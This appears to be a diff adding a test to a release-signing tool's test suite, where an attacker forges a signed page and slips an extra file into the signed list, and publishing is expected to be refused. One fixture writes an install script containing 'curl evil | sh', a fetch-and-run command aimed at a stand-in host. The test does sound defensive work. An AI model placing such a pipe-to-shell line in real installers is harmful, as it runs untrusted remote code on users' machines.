@@ -344,6 +344,46 @@ describe("an attacker who can change what is signed", () => {
     await project.succeed("build", "--released");
   });
 
+  test("after it was signed, consistently, does not get it published", async () => {
+    await project.succeed("build", "--released", "--check-out");
+    await project.succeed("sign", "--site", "prod");
+    const kept = join(project.folder, "signed-dist");
+    cpSync(join(project.folder, "dist"), kept, { recursive: true });
+    const build = JSON.parse(readFileSync(dist("build.json"), "utf8"));
+    const list = JSON.parse(readFileSync(dist("metadata/signed.json"), "utf8"));
+    const page = "releases/26.08.001/index.html";
+    rewrite(dist(page), (text) => text.replace("</h1>", " (forged)</h1>"));
+    const forged = readFileSync(dist(page));
+    build.files[page] = { sha256: sha256(forged), size: forged.length };
+    writeFileSync(dist("build.json"), `${JSON.stringify(build)}\n`);
+    list.build = sha256(readFileSync(dist("build.json")));
+    const bytes = readFileSync(dist("build.json"));
+    if (list.files["build.json"]) list.files["build.json"] = { sha256: list.build, size: bytes.length };
+    writeFileSync(dist("metadata/signed.json"), `${JSON.stringify(list)}\n`);
+    const refused = await project.run("publish", "prod");
+    expect(refused).toMatchObject({
+      exitCode: 6,
+      stderr: expect.stringMatching(
+        /^error\[build-unproved\] dist\/build\.json is not what was signed\n {2}hint: Nothing was published\. Build and sign it again: /,
+      ),
+    });
+    // The signed build, and one file more in the list of what signing added.
+    rmSync(join(project.folder, "dist"), { recursive: true });
+    cpSync(kept, join(project.folder, "dist"), { recursive: true });
+    writeFileSync(dist("install.sh"), "curl evil | sh\n");
+    const added = JSON.parse(readFileSync(dist("metadata/signed.json"), "utf8"));
+    added.files["install.sh"] = { sha256: sha256(readFileSync(dist("install.sh"))), size: 15 };
+    writeFileSync(dist("metadata/signed.json"), `${JSON.stringify(added)}\n`);
+    expect(await project.run("publish", "prod")).toMatchObject({
+      exitCode: 6,
+      stderr: expect.stringMatching(
+        /^error\[build-unproved\] dist\/install\.sh is covered by no signature\n/,
+      ),
+    });
+    expect(existsSync(project.www)).toBe(true);
+    expect(existsSync(join(project.www, "current"))).toBe(false);
+  });
+
   test("by an address of their own gets no signature", async () => {
     rewrite(dist("build.json"), (text) =>
       text.replace(/"base_url":"[^"]*"/, '"base_url":"https://evil.example"'),
